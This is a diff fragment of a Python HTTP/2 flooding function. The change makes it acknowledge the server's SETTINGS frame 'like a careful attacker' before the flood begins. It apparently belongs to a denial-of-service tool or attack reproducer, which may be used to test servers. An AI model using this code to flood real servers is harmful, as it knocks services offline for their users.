@@ -87,10 +87,24 @@ def flood_connection(host, port, pairs, batch):
                                              header_encoding=None))
         conn.initiate_connection()
         sock.sendall(conn.data_to_send())
+        # Like a careful attacker: acknowledge the server's SETTINGS before
+        # the flood (a server may bound streams opened before that).
+        settings_wait = time.monotonic() + 5
+        head = b""
+        while time.monotonic() < settings_wait:
+            data = sock.recv(1 << 16)
+            if not data:
+                break
+            head += data
+            if (len(head) >= 9 and head[3] == 0x4 and len(head) >= 9 + (
+                    (head[0] << 16) | (head[1] << 8) | head[2])):
+                sock.sendall(frame(0x4, 0x1, 0, b""))
+                break
         block = header_block(host)
         stream_id = 1
         sock.setblocking(False)
-        pending = b""
+        pending = head[9 + ((head[0] << 16) | (head[1] << 8) | head[2]):] \
+            if len(head) >= 9 else b""
 
         def pump():
             # Reads what the server sent; feeds h2 only for connection-level
